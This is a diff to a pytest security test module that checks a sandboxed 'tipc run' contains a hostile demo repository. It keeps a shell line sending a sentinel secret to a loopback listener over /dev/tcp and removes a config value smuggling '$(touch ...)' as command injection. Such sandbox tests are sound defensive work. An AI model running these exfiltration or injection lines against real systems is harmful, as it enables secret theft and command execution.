@@ -1,7 +1,7 @@
 """Issue 22 through `tipc run`: one hostile demo copy per reviewer (root, and a non-root user where the kernel
 allows) tries every attack a step can try, in one `tipc run --only train`; each test below reads its part.
 
-- item 1: a line of the repo's test script (observed to plan the run) and a `$(...)` config value;
+- item 1: a line of the repo's test script (observed to plan the run; config values: test_observation.py);
 - item 2: remount, umount2 of the overlay, mounting the root block device, new namespaces, kernel knobs;
 - item 3: secret variables (one passed with --pass-env), credential files under HOME, root-only host files,
   the host's /tmp;
@@ -21,7 +21,6 @@ from pathlib import Path
 import pytest
 
 from tests.security.conftest import (
-    CONFIG,
     Attacked,
     Listener,
     Reviewer,
@@ -68,7 +67,6 @@ def attacked(module_reviewer: Reviewer) -> Iterator[Attacked]:
     markers = {
         "host": reviewer.host / "written.txt",
         "script": reviewer.host / "observed.txt",
-        "config_value": reviewer.host / "config_value.txt",
         "repo": repo.repo / name,
         "home": reviewer.home / name,
         "tmp": Path("/tmp") / name,
@@ -108,7 +106,6 @@ def attacked(module_reviewer: Reviewer) -> Iterator[Attacked]:
             f"touch {markers['script']}; "
             f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
         )
-        repo.config_value("norm_train", f"train.py --data_dir=./lite_data $(touch {markers['config_value']})")
         repo.seal()
         env = {SECRET_VARS[0]: repo.sentinel, SECRET_VARS[1]: repo.sentinel + "aws", PASSED: repo.sentinel}
         done = reviewer.tipc(
@@ -151,11 +148,6 @@ def test_a_line_of_the_repo_script_runs_in_the_sandbox(attacked: Attacked) -> No
     )
     contained(attacked.received == b"", f"something reached the host's loopback: {attacked.received[:200]!r}")
     contained(attacked.repo.unchanged(), f"the repo changed: {attacked.repo.changed_files()}")
-
-
-def test_a_config_value_is_not_shell_evaluated_on_the_host(attacked: Attacked) -> None:
-    contained(not attacked.markers["config_value"].exists(), "the config value $(touch ...) ran on the host")
-    assert (attacked.repo.repo / CONFIG).read_text().count("$(touch") == 1
 
 
 # ---- item 2: steps cannot undo the sandbox
